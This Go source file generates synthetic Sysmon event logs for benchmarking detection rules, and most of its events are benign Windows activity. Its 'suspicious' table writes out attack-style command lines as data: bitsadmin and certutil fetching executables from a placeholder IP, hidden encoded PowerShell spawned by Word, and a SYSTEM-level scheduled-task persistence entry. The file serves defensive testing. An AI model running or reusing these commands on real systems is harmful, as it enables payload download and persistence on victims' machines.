// Package synth writes synthetic Sysmon events for benchmarks: a
// deterministic mix of the event ids detection rules read most, in the
// JSON shape EVTX dumpers produce (Event.System, Event.EventData), one
// event per line. The values are plausible (Windows binaries, command
// lines, registry keys, domains) so that rules are exercised the way real
// logs exercise them, mostly not matching.
package synth

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"time"
)

// mix is the share of each Sysmon event id, in percent.
var mix = []struct {
	id    int
	share int
}{{1, 35}, {3, 10}, {5, 5}, {7, 15}, {10, 5}, {11, 10}, {12, 3}, {13, 10}, {22, 7}}

// procs are benign processes with their usual arguments and parents.
var procs = []struct {
	image   string
	args    []string
	parents []string
}{
	{`C:\Windows\System32\svchost.exe`, []string{"-k netsvcs -p", "-k LocalServiceNetworkRestricted -p -s lmhosts", "-k DcomLaunch -p"}, []string{`C:\Windows\System32\services.exe`}},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, []string{"--type=renderer --field-trial-handle=1234 --lang=en-US", "--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAI", ""}, []string{`C:\Windows\explorer.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`}},
	{`C:\Windows\System32\conhost.exe`, []string{"0xffffffff -ForceV1"}, []string{`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}},
	{`C:\Windows\System32\taskhostw.exe`, []string{"", "KEYROAMING"}, []string{`C:\Windows\System32\svchost.exe`}},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, []string{"/n \"C:\\Users\\alice\\Documents\\report.docx\" /o \"\"", ""}, []string{`C:\Windows\explorer.exe`}},
	{`C:\Windows\System32\SearchProtocolHost.exe`, []string{"Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646"}, []string{`C:\Windows\System32\SearchIndexer.exe`}},
	{`C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, []string{"--type=utility --utility-sub-type=node.mojom.NodeService", ""}, []string{`C:\Windows\explorer.exe`, `C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`}},
	{`C:\Windows\System32\backgroundTaskHost.exe`, []string{"-ServerName:BackgroundTaskHost.WebAccountProvider"}, []string{`C:\Windows\System32\svchost.exe`}},
	{`C:\Program Files\Windows Defender\MpCmdRun.exe`, []string{"-wdenable", "SignatureUpdate -ScheduleJob -RestrictPrivileges"}, []string{`C:\Windows\System32\svchost.exe`}},
	{`C:\Windows\System32\cmd.exe`, []string{"/c echo hello", "/c dir C:\\Users\\alice", "/c \"C:\\scripts\\backup.cmd\""}, []string{`C:\Windows\explorer.exe`}},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, []string{"-NoProfile -File C:\\scripts\\inventory.ps1", ""}, []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`}},
	{`C:\Windows\System32\msiexec.exe`, []string{"/V", "/i C:\\Users\\alice\\Downloads\\setup.msi /qn"}, []string{`C:\Windows\System32\services.exe`, `C:\Windows\explorer.exe`}},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, []string{"-Embedding", "-secured -Embedding"}, []string{`C:\Windows\System32\svchost.exe`}},
	{`C:\Windows\System32\RuntimeBroker.exe`, []string{"-Embedding"}, []string{`C:\Windows\System32\svchost.exe`}},
}

// suspicious are the command lines of the rare events rules should see.
var suspicious = []struct{ image, cmd, parent string }{
	{`C:\Windows\System32\bitsadmin.exe`, "bitsadmin /transfer job1 /download /priority normal http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe", `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\certutil.exe`, "certutil -urlcache -split -f http://203.0.113.9/p.txt p.exe", `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
	{`C:\Windows\System32\whoami.exe`, "whoami /all", `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\schtasks.exe`, "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM", `C:\Windows\System32\cmd.exe`},
}

// suspiciousShare is the share of process creations from suspicious, in
// per mille.
const suspiciousShare = 10

var dllsUsed = []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\wininet.dll`, `C:\Windows\System32\crypt32.dll`, `C:\Windows\System32\combase.dll`}

var users = []string{`CORP\alice`, `CORP\bob`, `NT AUTHORITY\SYSTEM`, `NT AUTHORITY\LOCAL SERVICE`, `CORP\svc_backup`}
var domains = []string{"www.example.test", "login.example.test", "cdn.example.net", "updates.example.org", "telemetry.example.com", "mail.example.test"}
var regKeys = []string{
	`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`, `HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Office\16.0\Word\Options\Zoom`,
	`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-18\x`, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`,
	`HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`,
}
var files = []string{
	`C:\Users\alice\AppData\Local\Temp\tmp1234.tmp`, `C:\Users\alice\Downloads\report.pdf`, `C:\Windows\Prefetch\CMD.EXE-0BD30981.pf`,
	`C:\ProgramData\Microsoft\Windows Defender\Scans\History\x.bin`, `C:\Users\bob\Documents\notes.txt`, `C:\Windows\Temp\setup.log`,
}

// Write writes n events generated from seed to w, one JSON object per line.
func Write(w io.Writer, n int, seed uint64) error {
	bw := bufio.NewWriterSize(w, 1<<20)
	rng := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	t0 := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	enc := json.NewEncoder(bw)
	enc.SetEscapeHTML(false)
	for i := 0; i < n; i++ {
		ev := event(rng, i, t0.Add(time.Duration(i)*10*time.Millisecond))
		if err := enc.Encode(ev); err != nil {
			return err
		}
	}
	return bw.Flush()
}

func pick(rng *rand.Rand, s []string) string { return s[rng.IntN(len(s))] }

func guid(rng *rand.Rand) string {
	return fmt.Sprintf("{%08X-%04X-%04X-%04X-%012X}", rng.Uint32(), rng.Uint32()&0xffff, rng.Uint32()&0xffff, rng.Uint32()&0xffff, rng.Uint64()&0xffffffffffff)
}

// event builds one event as an ordered document.
func event(rng *rand.Rand, seq int, t time.Time) map[string]any {
	r := rng.IntN(100)
	id := mix[0].id
	for _, m := range mix {
		if r < m.share {
			id = m.id
			break
		}
		r -= m.share
	}
	pr := procs[rng.IntN(len(procs))]
	img := pr.image
	data := map[string]any{
		"RuleName":    "-",
		"UtcTime":     t.Format("2006-01-02 15:04:05.000"),
		"ProcessGuid": guid(rng),
		"ProcessId":   1000 + rng.IntN(60000),
		"Image":       img,
		"User":        pick(rng, users),
	}
	switch id {
	case 1:
		parent := pr.parents[rng.IntN(len(pr.parents))]
		cmd := `"` + img + `" ` + pick(rng, pr.args)
		if rng.IntN(1000) < suspiciousShare {
			s := suspicious[rng.IntN(len(suspicious))]
			img, cmd, parent = s.image, s.cmd, s.parent
			data["Image"] = img
		}
		data["FileVersion"] = "10.0.19041.1"
		data["Description"] = "Windows binary"
		data["Product"] = "Microsoft® Windows® Operating System"
		data["Company"] = "Microsoft Corporation"
		data["OriginalFileName"] = img[lastSlash(img)+1:]
		data["CommandLine"] = cmd
		data["CurrentDirectory"] = `C:\Windows\system32\`
		data["LogonGuid"] = guid(rng)
		data["LogonId"] = fmt.Sprintf("0x%x", rng.Uint32())
		data["TerminalSessionId"] = 1
		data["IntegrityLevel"] = []string{"Medium", "High", "System"}[rng.IntN(3)]
		data["Hashes"] = fmt.Sprintf("SHA1=%040X,MD5=%032X,SHA256=%032X%032X,IMPHASH=%032X", rng.Uint64(), rng.Uint64(), rng.Uint64(), rng.Uint64(), rng.Uint64())
		data["ParentProcessGuid"] = guid(rng)
		data["ParentProcessId"] = 1000 + rng.IntN(60000)
		data["ParentImage"] = parent
		data["ParentCommandLine"] = `"` + parent + `"`
		data["ParentUser"] = pick(rng, users)
	case 3:
		data["Protocol"] = "tcp"
		data["Initiated"] = "true"
		data["SourceIsIpv6"] = "false"
		data["SourceIp"] = fmt.Sprintf("10.0.%d.%d", rng.IntN(255), rng.IntN(255))
		data["SourceHostname"] = "ws1.corp.example.test"
		data["SourcePort"] = 49152 + rng.IntN(16000)
		data["DestinationIsIpv6"] = "false"
		data["DestinationIp"] = fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(220), rng.IntN(255), rng.IntN(255), rng.IntN(255))
		data["DestinationHostname"] = pick(rng, domains)
		data["DestinationPort"] = []int{443, 80, 53, 445, 3389, 8080}[rng.IntN(6)]
	case 7:
		dll := pick(rng, dllsUsed)
		data["ImageLoaded"] = dll
		data["OriginalFileName"] = dll[lastSlash(dll)+1:]
		data["Signed"] = "true"
		data["Signature"] = "Microsoft Windows"
		data["SignatureStatus"] = "Valid"
		data["Hashes"] = fmt.Sprintf("SHA256=%032X%032X", rng.Uint64(), rng.Uint64())
	case 10:
		data = map[string]any{"RuleName": "-", "UtcTime": data["UtcTime"], "SourceProcessGUID": guid(rng), "SourceProcessId": 4242,
			"SourceImage": img, "TargetProcessGUID": guid(rng), "TargetProcessId": 700, "TargetImage": procs[rng.IntN(len(procs))].image,
			"GrantedAccess": []string{"0x1000", "0x1410", "0x1fffff"}[rng.IntN(3)], "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+9d204|UNKNOWN(0000)`,
			"SourceUser": pick(rng, users), "TargetUser": pick(rng, users)}
	case 11:
		data["TargetFilename"] = pick(rng, files)
		data["CreationUtcTime"] = data["UtcTime"]
	case 12, 13:
		data["EventType"] = map[int]string{12: "CreateKey", 13: "SetValue"}[id]
		data["TargetObject"] = pick(rng, regKeys)
		if id == 13 {
			data["Details"] = []string{"DWORD (0x00000001)", "Binary Data", `C:\tools\update.exe`}[rng.IntN(3)]
		}
	case 22:
		data["QueryName"] = pick(rng, domains)
		data["QueryStatus"] = "0"
		data["QueryResults"] = "::ffff:93.184.216.34;"
	}
	return map[string]any{"Event": map[string]any{
		"System": map[string]any{
			"Provider":      map[string]any{"#attributes": map[string]any{"Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},
			"EventID":       id,
			"Version":       5,
			"Level":         4,
			"Task":          id,
			"TimeCreated":   map[string]any{"#attributes": map[string]any{"SystemTime": t.Format(time.RFC3339Nano)}},
			"EventRecordID": seq + 1,
			"Channel":       "Microsoft-Windows-Sysmon/Operational",
			"Computer":      "ws1.corp.example.test",
			"Security":      map[string]any{"#attributes": map[string]any{"UserID": "S-1-5-18"}},
		},
		"EventData": data,
	}}
}

func lastSlash(s string) int {
	for i := len(s) - 1; i >= 0; i-- {
		if s[i] == '\\' {
			return i
		}
	}
	return -1
}
